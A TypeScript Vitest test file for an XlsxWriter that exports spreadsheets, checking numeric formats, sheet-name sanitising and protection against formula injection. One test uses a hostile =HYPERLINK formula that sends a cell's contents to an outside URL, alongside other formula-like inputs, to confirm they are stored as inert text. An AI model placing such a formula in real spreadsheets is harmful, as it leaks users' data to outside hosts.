import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { decimal, EXACT, INTEGER, percentColumn, TEXT, XlsxWriter } from './workbook.js';

async function written(write: (xlsx: XlsxWriter) => void): Promise<ExcelJS.Workbook> {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  const xlsx = new XlsxWriter(stream);
  write(xlsx);
  await xlsx.commit();
  const bytes = Buffer.concat(chunks);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength));
  return workbook;
}

describe('XlsxWriter', () => {
  it('writes figures as numbers with the column’s format, text as text', async () => {
    const workbook = await written((xlsx) => {
      const sheet = xlsx.sheet('表', [
        { header: '名称', width: 10, type: TEXT },
        { header: '值', width: 10, type: decimal(4) },
        { header: '家数', width: 6, type: INTEGER },
        { header: '占比', width: 8, type: percentColumn(2) },
        { header: '面积', width: 8, type: EXACT },
      ]);
      sheet.row(['0012', '12.3400', 3, '66.67', '2.6']);
      sheet.row(['乙', '不适用', 0, null, '1234567.891234']);
      sheet.row(['合计', '-0.0001', 3, '100.00', '1234570.491234'], 'total');
      sheet.commit();
    });
    const sheet = workbook.getWorksheet('表');
    const row = sheet?.getRow(2);
    // A code of digits stays text; figures are numbers that print with the method's decimals.
    expect(row?.getCell(1).value).toBe('0012');
    expect(row?.getCell(2).value).toBe(12.34);
    expect(row?.getCell(2).numFmt).toBe('0.0000');
    expect(row?.getCell(3).value).toBe(3);
    // 66.67% is stored as the fraction 0.6667, formatted as a percentage.
    expect(row?.getCell(4).value).toBe(0.6667);
    expect(row?.getCell(4).numFmt).toBe('0.00%');
    expect(row?.getCell(5).value).toBe(2.6);
    expect(sheet?.getRow(3).getCell(2).value).toBe('不适用');
    expect(sheet?.getRow(3).getCell(4).value).toBeNull();
    expect(sheet?.getRow(3).getCell(5).value).toBe(1234567.891234);
    expect(sheet?.getRow(4).getCell(1).font.bold).toBe(true);
    expect(sheet?.getRow(4).getCell(2).value).toBe(-0.0001);
  });

  it('gives each sheet a unique name Excel accepts', async () => {
    const workbook = await written((xlsx) => {
      for (const name of ['a/b:c', 'A/B:C', 'x'.repeat(40)])
        xlsx.sheet(name, [{ header: 'h', width: 5, type: TEXT }]).commit();
    });
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['a_b_c', 'A_B_C(2)', 'x'.repeat(31)]);
  });

  it('writes a name that looks like a formula as a string cell, in text and figure columns alike', async () => {
    const hostile = '=HYPERLINK("http://x"&C2,"y")';
    const workbook = await written((xlsx) => {
      const sheet = xlsx.sheet('表', [
        { header: '名称', width: 10, type: TEXT },
        { header: '值', width: 10, type: decimal(2) },
      ]);
      sheet.row([hostile, '+SUM(1,2)']);
      sheet.row(['@A1', '-1+1'], 'total');
      sheet.commit();
    });
    const sheet = workbook.getWorksheet('表');
    const cells = [sheet?.getCell('A2'), sheet?.getCell('B2'), sheet?.getCell('A3'), sheet?.getCell('B3')];
    expect(cells.map((cell) => cell?.value)).toEqual([hostile, '+SUM(1,2)', '@A1', '-1+1']);
    for (const cell of cells) {
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.formula).toBeUndefined();
    }
  });
});
